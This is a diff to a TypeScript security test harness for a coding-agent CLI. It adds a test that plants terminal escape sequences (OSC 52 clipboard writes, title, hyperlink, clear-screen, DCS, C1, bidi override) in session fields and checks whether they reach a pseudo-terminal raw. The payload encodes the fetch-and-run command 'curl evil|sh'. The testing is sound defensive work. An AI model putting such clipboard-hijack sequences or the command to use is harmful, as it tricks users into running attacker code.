@@ -27,8 +27,12 @@
  *   trusted parent, --no-approve, defaultProjectTrust never) and two trusted controls, through
  *   a print-mode bash tool call and RPC bash plus a tool call: the hostile commands that ran.
  *
+ * - escape sequences (OSC 52, OSC 0, OSC 8, CSI, DCS, C1, bidi overrides) in every field a
+ *   terminal shows, through info, tree, ls, context, export, fsck, -p and the chat on a
+ *   pseudo-terminal: raw sequences and payloads that reached it.
+ *
  * Flags: --kills N (default 50, per mode), --rounds N (500), --commands N (10000), --big-mb N
- * (300), --seed N, --only kill-print,kill-rpc,pi,fuzz,hostile,trust.
+ * (300), --seed N, --only kill-print,kill-rpc,pi,fuzz,hostile,trust,escapes.
  */
 import { execFileSync, spawn, spawnSync } from "node:child_process"
 import * as fs from "node:fs"
@@ -50,7 +54,7 @@ const COMMANDS = flag("commands", 10_000)
 const BIG_MB = flag("big-mb", 300)
 const BIG_LIMIT_MS = 120_000
 const onlyAt = process.argv.indexOf("--only")
-/** `--only NAME[,NAME]` runs some attacks: kill-print, kill-rpc, pi, fuzz, hostile, trust. */
+/** `--only NAME[,NAME]` runs some attacks: kill-print, kill-rpc, pi, fuzz, hostile, trust, escapes. */
 const selected = (name: string) => onlyAt < 0 || (process.argv[onlyAt + 1] ?? "").split(",").includes(name)
 let seed = flag("seed", 1)
 const random = () => {
@@ -656,6 +660,133 @@ if (selected("trust")) {
   }
   await trustModel.close()
   r.note = `${scenarios.length} scenarios (${scenarios.filter((s) => !s.trusted).length} untrusted, 2 trusted controls) × ${entries.length} entry points (print-mode tool call; RPC bash + tool call); ${hostile} hostile commands ran untrusted; ${((Date.now() - started) / 1000).toFixed(1)} s`
+}
+
+// ---------------------------------------------------------------------------------------------
+// Escape sequences in every field, on a pseudo-terminal
+// ---------------------------------------------------------------------------------------------
+
+if (selected("escapes")) {
+  const r = row("escape sequences in every field, on a pty", ["raw sequence reached the terminal", "payload shown as text", "command failed"])
+  const base64 = Buffer.from("curl evil|sh").toString("base64")
+  // each: what a field holds, and what in the terminal's bytes would mean it went out raw
+  const sequences: ReadonlyArray<readonly [string, string, RegExp]> = [
+    ["OSC 52 (BEL)", `\u001b]52;c;${base64}\u0007`, /\u001b\]52;/],
+    ["OSC 52 (ST)", `\u001b]52;c;${base64}\u001b\\`, /\u001b\]52;/],
+    ["OSC 52 unterminated", `\u001b]52;c;${base64}`, /\u001b\]52;/],
+    ["OSC 0 title", `\u001b]0;${base64}\u0007`, /\u001b\]0;/],
+    ["OSC 8 link", `\u001b]8;;http://${base64}/\u001b\\L\u001b]8;;\u001b\\`, /\u001b\]8;/],
+    ["CSI clear screen", "\u001b[2J\u001b[H", /\u001b\[2J/],
+    ["DCS", `\u001bP1$q${base64}\u001b\\`, /\u001bP/],
+    ["APC", `\u001b_${base64}\u001b\\`, /\u001b_/],
+    ["C1 CSI", "\u009b2J", /\u009b/],
+    ["C1 OSC", `\u009d0;${base64}\u009c`, /[\u009c\u009d]/],
+    ["bidi U+202E", "\u202e", /\u202e/]
+  ]
+  const quote = (value: string): string => `'${value.replace(/'/g, `'\\''`)}'`
+  /** `arbor ARGS` under script(1): the bytes it wrote to its pseudo-terminal. */
+  const onPty = (args: ReadonlyArray<string>, runEnv: Record<string, string | undefined>, cwd: string) =>
+    new Promise<{ readonly code: number | null; readonly bytes: string }>((resolve) => {
+      const child = spawn("script", ["-q", "-e", "-c", [process.execPath, bin, ...args].map(quote).join(" "), "/dev/null"], {
+        cwd,
+        env: { ...runEnv, TERM: "xterm-256color" },
+        stdio: ["ignore", "pipe", "pipe"],
+        timeout: 60_000
+      })
+      const chunks: Array<Buffer> = []
+      child.stdout.on("data", (chunk: Buffer) => chunks.push(chunk))
+      child.on("close", (code) => resolve({ code, bytes: Buffer.concat(chunks).toString("utf8") }))
+    })
+  /** The chat (`--session FILE`, offline model) in tmux, its bytes recorded until it is drawn. */
+  const chat = async (file: string, runEnv: Record<string, string | undefined>, cwd: string) => {
+    const socket = `arbor-torture-${process.pid}`
+    const record = `${file}.pty`
+    const env = Object.entries({ ...runEnv, TERM: "xterm-256color" }).filter(([, v]) => v !== undefined && !/[\n']/.test(v)).map(([k, v]) => `${k}=${quote(v as string)}`)
+    const tmux = (...args: ReadonlyArray<string>) => spawnSync("tmux", ["-L", socket, ...args], { encoding: "utf8" })
+    const command = `cd ${quote(cwd)} && exec env -i ${env.join(" ")} ${[process.execPath, bin, "--session", file, "--model", "offline"].map(quote).join(" ")}`
+    tmux("-f", "/dev/null", "new-session", "-d", "-s", "t", "-x", "160", "-y", "50", "sleep 0.3; " + command)
+    tmux("pipe-pane", "-t", "t", "-O", `cat >> ${quote(record)}`)
+    const deadline = Date.now() + 20_000
+    let shown = false
+    while (!shown && Date.now() < deadline) {
+      await new Promise((res) => setTimeout(res, 200))
+      shown = (tmux("capture-pane", "-t", "t", "-p").stdout ?? "").includes("offline/offline (offline)")
+    }
+    // the transcript is drawn with the footer; a moment more for any later frame
+    await new Promise((res) => setTimeout(res, 500))
+    tmux("kill-server")
+    return { code: shown ? 0 : 1, bytes: fs.existsSync(record) ? fs.readFileSync(record, "utf8") : "" }
+  }
+  const counts = new Map<string, number>()
+  for (const [k, [name, raw, leak]] of sequences.entries()) {
+    const home = path.join(work, `escapes-${k}`)
+    const dir = path.join(home, "agent", "sessions", "--escapes--")
+    const cwd = path.join(home, "project")
+    fs.mkdirSync(dir, { recursive: true })
+    fs.mkdirSync(cwd)
+    const file = path.join(dir, `2026-01-01T00-00-00-000Z_escapes-${k}.jsonl`)
+    const t = "2026-01-01T00:00:00.000Z"
+    const usage = { input: 1, output: 1, cacheRead: 0, cacheWrite: 0, totalTokens: 2, cost: { input: 0, output: 0, cacheRead: 0, cacheWrite: 0, total: 0 } }
+    const lines = [
+      { type: "session", version: 3, id: `escapes-${k}`, timestamp: t, cwd: `/tmp/cwd${raw}x` },
+      { type: "model_change", id: "e1", parentId: null, timestamp: t, provider: "fake", modelId: `model${raw}x` },
+      { type: "message", id: "e2", parentId: "e1", timestamp: t, message: { role: "user", content: [{ type: "text", text: `user ${raw} tail-of-user` }], timestamp: 1 } },
+      {
+        type: "message",
+        id: "e3",
+        parentId: "e2",
+        timestamp: t,
+        message: {
+          role: "assistant",
+          content: [{ type: "thinking", thinking: `thinking ${raw}x` }, { type: "text", text: `reply ${raw} x` }, { type: "toolCall", id: "c1", name: `tool${raw}`, arguments: { command: `args ${raw}` } }],
+          api: "openai-completions", provider: "fake", model: `model${raw}x`, usage, stopReason: "toolUse", timestamp: 2
+        }
+      },
+      { type: "message", id: "e4", parentId: "e3", timestamp: t, message: { role: "toolResult", toolCallId: "c1", toolName: `tool${raw}`, content: [{ type: "text", text: `output ${raw}` }], isError: false, timestamp: 3 } },
+      {
+        type: "message",
+        id: "e5",
+        parentId: "e4",
+        timestamp: t,
+        message: { role: "assistant", content: [{ type: "text", text: `failed ${raw}` }], api: "openai-completions", provider: "fake", model: `model${raw}x`, usage, stopReason: "error", errorMessage: `error ${raw}`, timestamp: 4 }
+      },
+      { type: "label", id: "e6", parentId: "e5", timestamp: t, targetId: "e2", label: `label ${raw}` },
+      { type: "session_info", id: "e7", parentId: "e6", timestamp: t, name: `name ${raw}` }
+    ]
+    fs.writeFileSync(file, lines.map((l) => JSON.stringify(l)).join("\n") + "\n")
+    const runEnv = { ...env, PI_CODING_AGENT_DIR: path.join(home, "agent"), HOME: home }
+    const outputs: Array<readonly [string, { readonly code: number | null; readonly bytes: string }]> = [
+      ["info", await onPty(["info", file], runEnv, cwd)],
+      ["tree", await onPty(["tree", file], runEnv, cwd)],
+      ["ls", await onPty(["ls", "--all"], runEnv, cwd)],
+      ["context", await onPty(["context", file], runEnv, cwd)],
+      ["export", await onPty(["export", file], runEnv, cwd)],
+      ["fsck", await onPty(["fsck", file], runEnv, cwd)],
+      ["-p", await onPty(["--session", file, "--model", "offline", "-p", `prompt ${raw} x`], runEnv, cwd)],
+      ["chat", await chat(file, runEnv, cwd)]
+    ]
+    for (const [command, out] of outputs) {
+      r.trials++
+      if (out.code !== 0) {
+        r.bad["command failed"]!++
+        console.error(`  escapes: ${command} with ${name}: exit ${out.code}`)
+      }
+      if (leak.test(out.bytes)) {
+        r.bad["raw sequence reached the terminal"]!++
+        counts.set(command, (counts.get(command) ?? 0) + 1)
+      }
+      // tool arguments are shown as JSON, where an escape is the text `\u001b`: data, not a leak
+      const visible = out.bytes.replace(new RegExp(`\\\\u00(?:1b|9d)[^"\\r\\n]*?${base64}`, "g"), "")
+      if (visible.includes(base64)) {
+        r.bad["payload shown as text"]!++
+        const at = visible.indexOf(base64)
+        console.error(`  escapes: ${command} with ${name} shows the payload: ${JSON.stringify(visible.slice(Math.max(0, at - 80), at + 40))}`)
+      }
+    }
+  }
+  r.note =
+    `${sequences.length} sequences × 10 fields (name, label, cwd, model, user, reply, thinking, tool call, tool output, error) × 8 outputs` +
+    (counts.size === 0 ? "" : `; raw by output: ${[...counts].map(([c, n]) => `${c} ${n}`).join(", ")}`)
 }
 
 // ---------------------------------------------------------------------------------------------
